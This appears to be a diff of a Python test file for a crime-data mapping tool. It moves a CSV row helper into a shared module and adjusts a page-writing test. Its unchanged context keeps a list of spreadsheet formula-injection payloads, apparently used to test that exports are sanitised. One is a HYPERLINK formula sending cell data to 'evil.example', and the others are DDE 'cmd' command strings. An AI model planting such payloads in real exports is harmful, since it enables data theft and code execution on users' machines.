@@ -29,6 +29,7 @@ from pathlib import Path
 
 import pandas as pd
 import pytest
+from lmpd_rows import HEADER_2017, crime_row
 
 from geo_lead import cli, settings
 from geo_lead.errors import StoreStorageError
@@ -40,22 +41,8 @@ FIXTURES = Path(__file__).parent / "fixtures"
 CITATIONS = FIXTURES / "citations_documented_columns.csv"
 CITATIONS_MAPPING = settings.PACKAGE_DIR / "mappings" / "citations_example.toml"
 
-HEADER_2017 = ("INCIDENT_NUMBER,DATE_REPORTED,DATE_OCCURED,UOR_DESC,CRIME_TYPE,NIBRS_CODE,"
-               "UCR_HIERARCHY,ATT_COMP,LMPD_DIVISION,LMPD_BEAT,PREMISE_TYPE,BLOCK_ADDRESS,CITY,"
-               "ZIP_CODE,ID,ObjectId").split(",")
 FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0")
-
-
-def crime_row(n: int, **fields: str) -> dict[str, str]:
-    """One crime-pre2023 row (defaults: a possession record in Russell), `fields` override."""
-    row = dict(zip(HEADER_2017, [
-        f"80-17-{n:06d}", "7/9/17 1:36 PM", "7/9/17 1:36 PM", "POSSESSION OF HEROIN",
-        "DRUGS/ALCOHOL VIOLATIONS", "35A", "PART II", "COMPLETED", "1ST DIVISION", "111",
-        "RESIDENCE / HOME", "2700 BLOCK W MADISON ST", "LOUISVILLE", "40211", str(n), str(n)],
-        strict=True))
-    row.update(fields)
-    return row
 
 
 def write_crime_csv(path: Path, rows: list[dict[str, str]]) -> Path:
@@ -372,6 +359,7 @@ def test_pages_are_written_through_the_atomic_writer(tmp_path: Path, monkeypatch
     from geo_lead import outputs
     from geo_lead.zone_page import write_page
 
+    write_page(tmp_path / "warm_up.html")  # the street index's cache is written before the patch
     replaced: list[str] = []
     real = os.replace
     monkeypatch.setattr(outputs.os, "replace", lambda a, b: (replaced.append(str(b)), real(a, b))[1])
